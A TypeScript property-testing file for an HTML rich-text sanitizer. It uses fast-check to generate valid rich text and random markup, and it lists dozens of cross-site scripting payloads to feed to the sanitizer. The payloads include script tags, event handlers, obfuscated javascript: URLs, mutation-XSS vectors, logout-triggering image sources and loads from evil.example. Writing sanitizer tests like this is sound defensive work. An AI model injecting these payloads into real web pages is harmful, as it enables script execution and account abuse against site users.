// Rich text: well-formed as the sanitizer returns it, arbitrary markup, and attacks.
import fc from "fast-check"
import { toRichText } from "../../domain/rich-text/plain-text.ts"

const words = fc.constantFrom(
  "Hallo",
  "a < b",
  "R&D",
  "\u00a0",
  "&amp;",
  "10 > 9",
  "naïve",
  "🙂",
  '"quoted"',
  "{{answers.name|friend}}",
  "&foo;",
)
const text = fc
  .oneof(words, fc.string({ unit: "grapheme", minLength: 1 }))
  .map((it) => toRichText(it.replaceAll("\0", "").replace(/[\r\n]/g, " ")))

const runTags = ["strong", "b", "em", "i", "u", "s", "strike", "del"].map((name) => [`<${name}>`, `</${name}>`] as const)
const run = fc.constantFrom(
  ...runTags,
  ['<span style="font-size: 10px;">', "</span>"] as const,
  ['<span style="font-size: 22px;">', "</span>"] as const,
  ['<a href="https://example.org/?a=1&amp;b=&quot;2&quot;">', "</a>"] as const,
  ['<a href="mailto:a@example.org">', "</a>"] as const,
)
const image = fc.constantFrom(
  '<img src="https://example.org/a.png" alt="A &lt;b&gt;">',
  '<img src="/uploads/demo/a.png">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
)
const atom = fc.oneof({ weight: 6, arbitrary: text }, fc.constant("<br>"), image)
/** Runs with content; a link contains no other link. */
const inline = (linked: boolean, depth: number): fc.Arbitrary<string> =>
  depth === 0
    ? atom
    : fc.oneof(
        atom,
        run
          .filter(([open]) => !linked || !open.startsWith("<a"))
          .chain(([open, close]) =>
            fc
              .array(inline(linked || open.startsWith("<a"), depth - 1), { minLength: 1, maxLength: 3 })
              .map((inner) => open + inner.join("") + close),
          ),
      )
const line = fc.array(inline(false, 3), { maxLength: 4 }).map((parts) => parts.join(""))
const paragraph = line.map((it) => `<p>${it}</p>`)
const list = (depth: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom("ul", "ol"),
      fc.array(
        depth === 0
          ? line
          : fc.oneof(
              line,
              paragraph,
              fc.tuple(line, list(depth - 1)).map(([left, right]) => left + right),
            ),
        { maxLength: 3 },
      ),
    )
    .map(([name, items]) => `<${name}>${items.map((it) => `<li>${it}</li>`).join("")}</${name}>`)

/** Rich text in the form that the sanitizer returns. */
export const richText = fc
  .array(fc.oneof({ weight: 3, arbitrary: paragraph }, list(2), line), { maxLength: 4 })
  .map((blocks) => blocks.join(""))

const fragments = [
  "<p>",
  "</p>",
  "<ul>",
  "</ul>",
  "<ol>",
  "</ol>",
  "<li>",
  "</li>",
  "<b>",
  "</b>",
  "<strong>",
  "<em>",
  "</em>",
  "<br>",
  "<br/>",
  "<div>",
  "</div>",
  "<h1>",
  "<table>",
  "<td>",
  "<svg>",
  "</svg>",
  "<math>",
  "<script>",
  "</script>",
  "<style>",
  "</style>",
  "<!--",
  "-->",
  "<!",
  "<?",
  "<a href='https://a.example'>",
  '<a href="javascript:alert(1)">',
  "</a>",
  "<span style='font-size:12px'>",
  "<span style=color:red>",
  "</span>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://a.example/x" alt="',
  "<",
  ">",
  "</",
  '"',
  "'",
  "=",
  "/",
  "&",
  "&lt;",
  "&#60;",
  "&#x3c",
  "&amp",
  "\0",
  " ",
  "\n",
  "\t",
  "text",
  "onclick",
  "<p onclick=x",
  "<b/onmouseover=x>",
  "<template>",
  "<textarea>",
  "</title>",
  "\u00a0",
  "<A HREF=HTTPS://A.EXAMPLE>",
]
/** Arbitrary markup: tags, characters and texts in any order. */
export const markup = fc
  .array(fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...fragments) }, fc.string({ unit: "binary", maxLength: 4 })), { maxLength: 30 })
  .map((parts) => parts.join(""))

/** Attacks on a sanitizer. */
export const sanitizerAttacks: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script >alert(1)</script ><p>after</p>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='javascript:alert(1)'>",
  '<img """><script>alert(1)</script>">',
  "<img src=https://a.example/x.png onload=alert(1) srcset='x 1x' style='position:fixed'>",
  "<img src=/api/logout>",
  "<img src=/uploads/../api/logout>",
  "<img src=/uploads/%2e%2e/api/logout>",
  "<img src=//evil.example/x.png>",
  "<img src='data:text/html;base64,PHNjcmlwdD4='>",
  "<img src='data:image/png,<script>'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' \u0001javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='java&Tab;script&colon;alert(1)'>x</a>",
  "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97'>x</a>",
  "<a href='&#x6A;avascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/api/logout'>x</a>",
  "<a href='blob:https://a.example/x'>x</a>",
  "<a href='https://a.example' onclick=alert(1) target=_top ping=https://evil.example style='x:y'>x</a>",
  "<a href=`javascript:alert(1)`>x</a>",
  "<a/href=javascript:alert(1)>x</a>",
  "<a href='https://a.example/\"onmouseover=alert(1) x=\"'>x</a>",
  "<p style='background:url(javascript:alert(1))' class=x id=y name=z>x</p>",
  "<span style='font-size:9999px'>x</span>",
  "<span style='font-size:12px;position:fixed;inset:0;background:red'>x</span>",
  "<span style='font-size:12px\"onclick=alert(1)'>x</span>",
  "<p onclick=alert(1)//",
  "<p/onclick=alert(1)>x",
  "<p\fonclick=alert(1)>x",
  "<p\0onclick=alert(1)>x",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--->-<img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)>?>",
  "<style>@import 'https://evil.example'</style>",
  "<style><!--</style><script>alert(1)</script>-->",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title></title><img src=x onerror=alert(1)>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<x onclick=alert(1)>x",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&lt;img src=x onerror=alert(1)&gt;",
  "<b <script>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  "<a href='https://a.example'><a href='javascript:alert(1)'>x",
  "\0<\0script>alert(1)</script>",
  "<script\0>alert(1)</script\0>",
  "＜script＞alert(1)＜/script＞",
]
